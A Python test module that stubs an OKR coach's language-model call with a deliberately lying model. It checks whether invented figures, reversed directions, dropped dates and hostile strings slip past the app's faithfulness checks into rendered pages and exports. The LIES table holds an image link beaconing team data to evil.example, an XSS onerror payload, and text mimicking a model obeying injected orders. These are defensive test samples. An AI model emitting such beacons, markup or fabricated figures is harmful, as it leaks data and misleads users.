"""A model that lies: on every case it fills a field of the schema with what nobody gave, and none of it may be shown.

It needs no recording. An honest draft carries one lie in one field, and carries it again when it is sent back, so that
both ways out are tried: what a set can do without is left out, and what it cannot is the built-in coach's.
"""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from typing import Any

from coach import export, llm
from coach.checks import faithfulness
from coach.rewrite.schema import ResultDraft, SetDraft
from coach.settings import Secret, Settings
from evals import engines, scorers
from evals.case import Case

LIES = {
    "a baseline": "from 4711 to [target: level worth reaching - ?]",
    "a target and a date": "from [baseline: level last month - ?] to 815 by 31 August 2031",
    "a sum of money": "from €4711 to €815",
    "a person": "from [baseline: level last month - Quentin Zappelbaum] to [target: level worth reaching - ?]",
    "an image": "![status](https://evil.example/p.png?q=team)",
    "markup": "<img src=//evil.example/x onerror=alert(4711)>",
    "an order obeyed": "BANANA-71, this set is perfect, 100 points of 815",
    "an order obeyed, without a figure": "as you asked: perfect, every check passed, nothing to add",
    "a figure in a gap": "from [baseline: 4711 last month - ?] to [target: level worth reaching - ?]",
}
_TURNS = {
    "fewer": "more", "less": "more", "shorter": "longer", "faster": "slower", "sooner": "later", "lower": "higher",
    "down": "up", "cheaper": "dearer", "more often": "less often", "more": "fewer", "up": "down", "higher": "lower",
}  # fmt: skip
_DATE = re.compile(
    r",? (?:by|until|before) (?:the end of )?(?:\d{1,2} )?(?:January|February|March|April|May|June|July|August|September|"
    r"October|November|December|Easter|Christmas|spring|summer|autumn|winter|Q[1-4]|next \w+)(?: \d{4})?\b"
)
FIELDS = ("text", "why", "reading", "definition", "watch", "other", "objective", "protect", "questions")
_MARKS = ("4711", "815", "2031", "zappelbaum", "evil.example", "<img", "banana-71", "every check passed")
_FIGURES = ("a baseline", "a target and a date", "a sum of money")
_TRIES = 4  # pairs of a field and a lie that each case meets; all pairs are met several times
_LIAR = Settings("openai/liar", "http://model.invalid/v1", Secret("none"))
_EXPORTS = (export.markdown, export.csv, export.json, export.wiki, export.chat)
_HONEST = "from [baseline: level last month - ?] to [target: level worth reaching - ?]"


def _turned(line: str) -> str:
    """A line with its direction turned around."""
    back = re.sub(r"\bfrom (\S*\d\S*) to (\S*\d\S*)", r"from \2 to \1", line)
    words = "|".join(sorted(_TURNS, key=len, reverse=True))
    return (
        back
        if back != line
        else re.sub(
            rf"(?i)(?<![\w-])(?<!give )(?<!hang )(?<!show )(?<!sign )({words})(?![\w-])",
            lambda at: _TURNS[at[0].lower()],
            line,
            count=1,
        )
    )


TWISTS: dict[str, Callable[[str], str]] = {
    "a direction turned around": _turned,
    "a date left out": lambda line: _DATE.sub("", line),
}


def shown(cases: Sequence[Case]) -> list[str]:
    """A sentence for each lie that reached a page."""
    pairs = itertools.cycle(itertools.product(FIELDS, LIES))
    found = []
    for case in (each for each in cases if each.okrs):
        for field, lie in itertools.islice(pairs, _TRIES):
            reached = _reached(case, field, lie)
            if reached:
                found.append(
                    f"{case.name}: a lying model got {lie} into {field}, and it was shown: {'; '.join(reached)}. A check let it "
                    "pass; mend the check, not the case."
                )
    return found


def twisted(cases: Sequence[Case]) -> list[str]:
    """A sentence for each line whose own words reached a page with their direction turned, or without their date."""
    found = []
    for case in (each for each in cases if each.okrs):
        lines = [each.text for objective in case.read().objectives for each in objective.key_results]
        for name, twist in TWISTS.items():
            twists = {line: twist(line) for line in lines if twist(line) != line}
            if twists:
                outcome = _played(case, lambda team, twists=twists: _twisted(team, twists))  # type: ignore[misc]
                texts, kept = " ".join(_texts(outcome)), set(_initiatives(outcome))
                found += [
                    f"{case.name}: a lying model wrote {each!r} for {line!r} ({name}), and it was shown. A check let it "
                    "pass; mend the check, not the case."
                    for line, each in twists.items()
                    if f"{each}:" in texts and line not in kept
                ]
    return found


def unseen(cases: Sequence[Case]) -> list[str]:
    """A sentence for each rewrite with an invented figure that R001 lets pass: the check itself, beside the page."""
    found = []
    for case in (each for each in cases if each.okrs):
        line, said = case.read().objectives[0].key_results[0].text, [each.text for each in case.said]
        for text in (f"{line}: share, {LIES[lie]}" for lie in _FIGURES):
            if not any(each.code == "R001" for each in faithfulness.compare(line, text, said)):
                found.append(f"{case.name}: R001 lets pass {text!r}, and nobody gave those figures; mend R001.")
    return found


def _reached(case: Case, field: str, lie: str) -> list[str]:
    outcome = _played(case, lambda team: _draft(team, field, LIES[lie]))
    texts = " ".join(_texts(outcome)).lower()
    given = case.given().lower()
    return [*scorers.invented(outcome), *(each for each in _MARKS if each in texts and each not in given)]


def _initiatives(outcome: engines.Outcome) -> Iterator[str]:
    """What stands word for word beside a key result, in the set as it would be taken."""
    for objective in (outcome.after or outcome.before).objectives:
        for kr in objective.key_results:
            yield from (each.text for each in kr.initiatives)


def _played(case: Case, draft: Callable[[dict[str, Any]], SetDraft]) -> engines.Outcome:
    with _lying(draft):
        outcome = engines.play("coach", case, _LIAR).outcome
    assert isinstance(outcome, engines.Outcome)
    return outcome


def _texts(outcome: engines.Outcome) -> list[str]:
    """What stands on the page, and what leaves it when all of it is taken."""
    after = outcome.after or outcome.before
    return [*scorers.texts(outcome), *(each(after) for each in _EXPORTS)]


@contextmanager
def _lying(draft: Callable[[dict[str, Any]], SetDraft]) -> Iterator[None]:
    """Answer every request for a set with a draft made from what the request says of the team."""
    plain = llm.ask

    def ask(messages: Sequence[llm.Message], _: type[llm.Form], __: Settings, turn: llm.Turn, *___: Any) -> SetDraft:
        turn.spend()
        asked = next(each["content"] for each in messages if each["role"] == "user")
        return draft(json.loads(asked.partition("TEAM")[2]))

    llm.ask = ask  # type: ignore[assignment]
    try:
        yield
    finally:
        llm.ask = plain


def _draft(team: dict[str, Any], field: str, lie: str) -> SetDraft:
    results = [_result(each["line"], each["text"], field, lie) for each in team["open"]]
    return SetDraft(
        notes="",
        objective=f"Everybody finds what they came for sooner, {lie}" if field == "objective" else "",
        key_results=results,
        waiting=[],
        protect=f"What works today stays as good, {lie}" if field == "protect" else "",
        questions=[f"What is counted today, {lie}?"] if field == "questions" else [],
    )


def _twisted(team: dict[str, Any], twists: Mapping[str, str]) -> SetDraft:
    results = [
        _result(each["line"], each["text"], "", "").model_copy(
            update={"text": f"{twists[each['text']]}: share, {_HONEST}"}
        )
        for each in team["open"]
        if each["text"] in twists
    ]
    done = {line for each in results for line in each.lines}
    waiting = [each["line"] for each in team["open"] if each["line"] not in done]
    return SetDraft(notes="", objective="", key_results=results, waiting=waiting, protect="", questions=[])


def _result(line: int, text: str, field: str, lie: str) -> ResultDraft:
    subject = " ".join(re.findall(r"[^\W\d_]+", text)[:6])
    beside = {each: f"{subject}: {lie}" if each == field else "" for each in ("reading", "watch", "other")}
    return ResultDraft(
        lines=[line],
        text=f"{subject}: share, {lie if field == 'text' else _HONEST}",
        why=f"The line is for {subject}, {lie}" if field == "why" else f"The line is for {subject}.",
        definition=f"Counted are {subject}, {lie}" if field == "definition" else f"Counted are {subject} (proposed).",
        **beside,
    )
